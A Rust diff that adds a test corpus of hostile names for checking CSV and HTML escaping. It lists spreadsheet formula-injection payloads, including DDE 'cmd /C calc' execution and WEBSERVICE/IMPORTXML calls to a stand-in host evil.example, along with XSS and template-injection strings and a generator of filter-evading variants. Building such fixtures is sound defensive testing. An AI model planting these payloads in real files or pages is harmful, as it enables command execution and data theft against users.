@@ -1,0 +1,108 @@
+//! Names that try to become something else than a name.
+
+/// Formulas, markup, broken quoting, and what spreadsheets and browsers trip over.
+pub const HOSTILE: [&str; 64] = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0",
+    "=HYPERLINK(\"https://evil.example\",\"ok\")",
+    "=IMPORTXML(\"https://evil.example/\",\"//a\")",
+    "=WEBSERVICE(\"https://evil.example\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    " =1+1",
+    "   =1+1",
+    "\u{a0}=1+1",
+    "\u{3000}=1+1",
+    "\u{200b}=1+1",
+    "\u{200d}\u{200b}=1+1",
+    "\u{feff}=1+1",
+    "\u{2060}+1",
+    "\u{ad}-1",
+    "\u{202e}=1+1",
+    "\u{2066}@a",
+    "\0=1+1",
+    "\u{1}=1",
+    "\u{7f}=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    " ＝1",
+    "﹦1",
+    "﹢1",
+    "﹣1",
+    "﹫a",
+    "−1",
+    "'=1+1",
+    "''=1+1",
+    "' =1",
+    "'t Hooft",
+    "\"=1+1\"",
+    "\",=1+1",
+    "a\",\"=1+1",
+    "a\r\n=1+1",
+    "a;=1+1",
+    "a\t=1+1",
+    "a,=1+1",
+    ";=1;+2;-3;@4",
+    "<script>alert(1)</script>",
+    "</td></tr></table><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><svg onload=alert(1)>",
+    "' onmouseover='alert(1)",
+    "&lt;b&gt;&amp;&#61;",
+    "</style><b>",
+    "</title><b>",
+    "<!--",
+    "--><b>",
+    "]]>",
+    "{{constructor.constructor('alert(1)')()}}",
+];
+
+/// Every sign behind everything that may stand before it.
+pub fn payloads() -> Vec<String> {
+    let before = [
+        "",
+        " ",
+        "\t",
+        "\r",
+        "\n",
+        "\0",
+        "\u{a0}",
+        "\u{2003}",
+        "\u{3000}",
+        "\u{200b}",
+        "\u{200c}",
+        "\u{200d}",
+        "\u{2060}",
+        "\u{feff}",
+        "\u{ad}",
+        "\u{202d}",
+        "\u{e0020}",
+        "'",
+        "''",
+        "a;",
+        "a\t",
+        "a\r\n",
+        "\u{fe0f}",
+        " \u{200b} ",
+    ];
+    let signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "⁼", "⁺"];
+    let behind = ["1+1", "cmd|' /C calc'!A0", "\"a\",b;c"];
+    let mut all = Vec::new();
+    for before in before {
+        for sign in signs {
+            all.extend(behind.map(|behind| format!("{before}{sign}{behind}")));
+        }
+    }
+    all
+}
